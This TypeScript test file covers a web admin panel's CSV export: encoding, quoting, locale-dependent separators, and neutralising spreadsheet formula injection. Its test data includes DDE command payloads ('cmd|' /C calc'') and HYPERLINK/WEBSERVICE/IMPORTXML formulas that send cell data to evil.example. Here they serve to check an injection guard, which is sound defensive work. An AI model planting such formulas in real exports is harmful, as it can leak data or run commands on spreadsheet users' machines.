import { expect, test } from "bun:test";
import Papa from "papaparse";
import { getInitialValues } from "../../../src/schema/entities/check.ts";
import { emailSubscriptions } from "../../../src/schema/enquiry/visitors.ts";
import {
  createAnswersFile,
  createCsvFormatter,
  type CsvTable,
  type Separator,
  chooseSeparator,
  SUBMISSIONS_TABLE,
  SUBSCRIPTIONS_TABLE,
} from "../../../src/web/admin/data/csv.ts";

/** Creates a complete file from a list that fits into one part. */
function createCsv<T>(table: CsvTable<T>, rows: T[], separator: Separator = ","): string {
  const { header, formatRecords } = createCsvFormatter(table, separator);
  return header + formatRecords(rows);
}
const createTable = (columns: string[]) => ({ columns, createRow: (cells: string[]) => cells });
const parseCsv = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, "")).data;

test("a CSV starts with a byte order mark and separates its lines with CRLF (RFC 4180)", () => {
  expect(createCsv(createTable(["A", "B"]), [["1", "2"]])).toBe("\uFEFFA,B\r\n1,2");
});

test("commas, quotes and line breaks round-trip through a CSV library", () => {
  const rows = [
    ["a,b", 'say "hi"'],
    ["two\nlines", "crlf\r\ninside"],
    ["", " padded "],
    ["naïve 日本 🎭", "'quoted'"],
  ];
  expect(parseCsv(createCsv(createTable(["One", "Two, too"]), rows))).toEqual([
    ["One", "Two, too"],
    ...rows,
  ]);
});

const FORMULA_CELLS = [
  ["=1+1", "  =1", "＝1", "\t=1", "\r=1", "\n=1", "\tx", "+1+1", "-2+3", "＋1＋1"],
  ["\u00a0+1*2", "-5%", "+A1", "-$B$2", "+A1*2", "-A1:B2", "@A1+1", "@SUM(A1)"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0"],
  ["+44|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
  ['+HYPERLINK("https://evil.example?x="&A1,"Error")'],
  ['-1+hyperlink ("https://evil.example")', '@WEBSERVICE("https://evil.example")'],
  ['-IMPORTXML ("https://evil.example")', "+'[other.xlsx]Sheet1'!A1", "-Sheet1!A1"],
  ["＠SUM(1)", '=HYPERLINK("https://evil.example")', "=cmd|'/c calc'!A0", "+A1+A2"],
  ["@INDIRECT(A1)", "-(1+1)", "-1^2", "+1*1", "+SUM(A1:A2)", "-1-1", "+1-1", "+1/2", "-5/2"],
  ["+1-2-3", "-2026-11-28", "- 5 - 6", "--5", "+-5", "-.5-.5", '+"x"&"y"', '-"x"&"y"'],
  ['+"x"&A1', '+"a ""b"""&"c"', "+A:C", "-$A:B", "+A1#", "+1e5-1", "-8:30", "+(1)-(1)"],
].flat();

test.each(FORMULA_CELLS)(
  "%j, which a spreadsheet would calculate, gets a leading apostrophe in a cell and in the header",
  (cell) => {
    expect(parseCsv(createCsv(createTable([cell]), [[cell]]))).toEqual([
      [`'${cell}`],
      [`'${cell}`],
    ]);
  },
);

const PLAIN_CELLS = [
  ["a=b", "1-2", "ann@example.com", "'x", "{}", "+44 7700 900123", "+447700900123"],
  ["+44 (0)20 7946 0958", "+44(0)20-7946-0958", "+49 30/123456", "+44 7700 900123 ext 12"],
  ["+44 7700 900123 x12", "+1-800-555-0199", "+1.800.555.0199", "＋44 7700 900123"],
  ["@annlee", "@ann.lee_99", "@bob99", "＠annlee", "-", "- two shows", "-two shows"],
  ["- two shows (matinee, evening)", "- great show! Thanks", "- Tom & Jerry", "- A4 paper"],
  ["-- Ann", "-5", "-5.50", "-1,234.5", "+1", "+1 guest", "-1e-7"],
  ["+1 (415) 555-2671 ext. 12", "+44 7700 900123 / +44 7700 900124"],
  ["+44 7700 900123; 020 7946 0000", "+49 (0) 151 / 12 34 56", "- see you at 8:30", "--"],
  ["@ann lee", "+ one guest", "+1 (plus one)", "-10°C", "-50%?", "@AnnLee2024", "@a1b2c3"],
  ["-£5.00", "-5 €", "+3 friends & family", "- 2 x tickets", "-1.250,00", "- Ann (Lee)"],
  ["+/- 5", "-5 / -", "---", "-/-", "+44-20-7946", "+1-800-555-0199#12"],
  ["+44-7700-900123 / +44-7700-900124", "(1-2)", "1-2-3", "-'5", '- "best show"', "- 9/10!"],
  ["-5–6"],
].flat();

test.each(PLAIN_CELLS)("the cell %j, which is no formula, is exported unchanged", (cell) => {
  expect(parseCsv(createCsv(createTable([cell]), [[cell]]))).toEqual([[cell], [cell]]);
});

test("the check for formulas takes linear time on any text", () => {
  const start = performance.now();
  for (const unit of [
    "+",
    "-1",
    "@a",
    "+(",
    "-a1",
    "+ ",
    "-x(",
    "+hyperlink ",
    "+1 x",
    '+"',
    "- 1 (",
    "+1e",
  ])
    createCsv(createTable(["A"]), [[unit.repeat(50_000)]]);
  expect(performance.now() - start).toBeLessThan(2000);
});

test("the columns of a CSV are separated by semicolons if the site's language uses decimal commas", () => {
  for (const language of ["de", "es", "fr", "it", "nl", "pl", "pt"])
    expect(chooseSeparator(language)).toBe(";");
  for (const language of ["en", "en-GB", "ja", "he"]) expect(chooseSeparator(language)).toBe(",");
  const rows = [
    ["a,b", "c;d"],
    ["1,5", ""],
  ];
  const text = createCsv(createTable(["One", "Two"]), rows, ";");
  expect(text).toBe('\uFEFFOne;Two\r\n"a,b";"c;d"\r\n"1,5";');
  expect(parseCsv(text)).toEqual([["One", "Two"], ...rows]);
});

const FOLLOWED_UP = {
  stage: "talking" as const,
  remindOn: "2027-03-14",
  about: "Twelve weeks",
  notes: [
    { id: "1", at: "2026-11-20T10:00:00.000Z", by: "ann", text: "=First" },
    { id: "2", at: "2026-11-21T10:00:00.000Z", by: "ann", text: "Then" },
  ],
};
const FIRST_COLUMNS = [
  "Submission ID",
  "Status",
  "Submitted At",
  "Stage",
  "Reminder",
  "About",
  "Notes",
];
const FOLLOW_UP_CELLS = ["In conversation", "2027-03-14", "Twelve weeks", "Then\n=First"];

test("an export with a column per question has all columns in every line, even those of later submissions' questions", async () => {
  const file = createAnswersFile(",");
  const makeAnswer = (id: string, label: string, answer: string | string[]) => ({
    id,
    label,
    type: "text",
    answer,
  });
  const record = (
    id: string,
    questions: ReturnType<typeof makeAnswer>[],
    submissionData = "{}",
  ) => ({
    id,
    status: "new" as const,
    createdAt: null,
    submissionData,
    questions,
    ...FOLLOWED_UP,
  });
  file.addRecords([
    record("1", [makeAnswer("a", "Name", "Ann,\n=1"), makeAnswer("b", "Times", ["x", "y"])]),
  ]);
  file.addRecords([
    record("2", [makeAnswer("c", "Town", "-"), makeAnswer("a", "Old name", "Ben")]),
  ]);
  file.addRecords([record("3", [], '{"q":1}')]);
  const bytes = await new Blob(file.createParts()).bytes();
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes);
  expect(parseCsv(text)).toEqual([
    [...FIRST_COLUMNS, "Name", "Times", "Town", "Data"],
    ["1", "new", "", ...FOLLOW_UP_CELLS, "Ann,\n=1", "x, y", "", ""],
    ["2", "new", "", ...FOLLOW_UP_CELLS, "Ben", "", "-", ""],
    ["3", "new", "", ...FOLLOW_UP_CELLS, "", "", "", '{"q":1}'],
  ]);
});

test("the CSV of subscriptions has the columns Email, Name, Status, Source and Subscribed At", () => {
  const at = new Date(2026, 10, 20, 9, 5, 7).toISOString();
  const row = {
    ...getInitialValues(emailSubscriptions.fields),
    id: "1",
    email: "ann@example.com",
    name: null,
    status: "active" as const,
    source: "website",
    subscribedAt: at,
    ipAddress: "127.0.0.1",
    userAgent: null,
  };
  expect(parseCsv(createCsv(SUBSCRIPTIONS_TABLE, [row, { ...row, name: "=Ann" }]))).toEqual([
    ["Email", "Name", "Status", "Source", "Subscribed At"],
    ["ann@example.com", "", "active", "website", "2026-11-20 09:05:07"],
    ["ann@example.com", "'=Ann", "active", "website", "2026-11-20 09:05:07"],
  ]);
});

test("the CSV of submissions has the columns Submission ID, Status, Submitted At and Data", () => {
  const row = {
    id: "1",
    status: "new" as const,
    createdAt: new Date(2026, 10, 20, 23, 59, 0).toISOString(),
    submissionData: '{"f":"Ann"}',
    questions: [
      { id: "f", label: "Name", type: "text", answer: "Ann" },
      { id: "g", label: "Goals", type: "checkbox", answer: ["Rest", "Play"] },
    ],
    ...FOLLOWED_UP,
  };
  expect(parseCsv(createCsv(SUBMISSIONS_TABLE, [row, { ...row, questions: [] }]))).toEqual([
    ["Submission ID", "Status", "Submitted At", "Data"],
    ["1", "new", "2026-11-20 23:59:00", "Name: Ann\nGoals: Rest, Play"],
    ["1", "new", "2026-11-20 23:59:00", '{"f":"Ann"}'],
  ]);
});

test("a CSV that is formatted in parts is the same as one formatted at once", () => {
  const table = createTable(["A", "B"]);
  const rows = [
    ["1", "=2"],
    ["a,b", "two\nlines"],
    ["é", ""],
  ];
  const { header, formatRecords } = createCsvFormatter(table, ",");
  expect(header + formatRecords(rows.slice(0, 2)) + formatRecords(rows.slice(2))).toBe(
    createCsv(table, rows),
  );
});
